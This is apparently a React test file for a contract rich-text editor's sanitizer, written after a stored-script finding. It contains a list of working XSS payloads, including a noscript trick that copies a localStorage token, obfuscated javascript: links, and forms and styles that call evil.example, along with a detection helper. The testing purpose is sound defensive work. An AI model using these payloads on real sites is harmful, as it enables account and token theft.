import { fireEvent, render, screen } from '@testing-library/react';
import { RichTextEditor } from '../components/RichTextEditor';

// The payloads of the security finding (stored script in the contract editors): content a manager stored that ran
// when an admin opened "Edit content", and the known ways around a blacklist.
const PAYLOADS = [
  '<p>a</p><noscript><!--</noscript><img src=x onerror="window.stolen = localStorage.token">--></noscript>',
  '<button formaction="java&#x0A;script:alert(1)">Go</button>',
  '<a href="javascript:alert(1)">terms</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">terms</a>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<p style="background:url(https://evil.example/x)" onclick="alert(1)">styled</p>',
  '<template><img src=x onerror=alert(1)></template>',
];

const renderEditor = (initialHtml: string, onChange = jest.fn()) => {
  render(
    <RichTextEditor
      label="Template content"
      initialHtml={initialHtml}
      shortcodes={['first_name']}
      onChange={onChange}
      resetKey={0}
    />,
  );
  return screen.getByRole('textbox', { name: 'Template content' });
};

/** What in the editor could run: an event handler, a javascript: URL, a script, a form or a frame. */
function runnable(editor: HTMLElement): string[] {
  return [editor, ...editor.querySelectorAll('*')].flatMap((element) => [
    ...[...element.attributes]
      .filter((a) => /^on/i.test(a.name) || /javascript:/i.test(a.value.replace(/[\s\u0000-\u001f]/g, '')))
      .map((a) => `${element.localName} ${a.name}`),
    ...(['script', 'style', 'form', 'button', 'iframe', 'noscript', 'template', 'svg', 'math'].includes(
      element.localName,
    )
      ? [element.localName]
      : []),
  ]);
}

describe('RichTextEditor: content is rendered through the allowlist (domain/richText)', () => {
  it.each(PAYLOADS)('renders %s with nothing that runs', (payload) => {
    const editor = renderEditor(payload);
    expect(runnable(editor)).toEqual([]);
    expect((window as { stolen?: unknown }).stolen).toBeUndefined();
  });

  it('renders the toolbar’s and mammoth’s markup and the shortcodes as they are', () => {
    const html =
      '<h2>Contract</h2><p><b>Between</b> {company_name} and <i>{full_name}</i></p><ul><li>one</li></ul><table><tbody><tr><td>a</td></tr></tbody></table>';
    expect(renderEditor(html).innerHTML).toEqual(html);
  });

  it('hands on what is typed or pasted cleaned, as the server keeps it', () => {
    const onChange = jest.fn();
    const editor = renderEditor('<p>a</p>', onChange);
    editor.innerHTML =
      '<p><span style="font-size:11pt" onmouseover="alert(1)">Pasted</span> <a href="javascript:alert(1)">link</a></p>';
    fireEvent.input(editor);
    expect(onChange).toHaveBeenLastCalledWith('<p>Pasted <a>link</a></p>');
  });
});
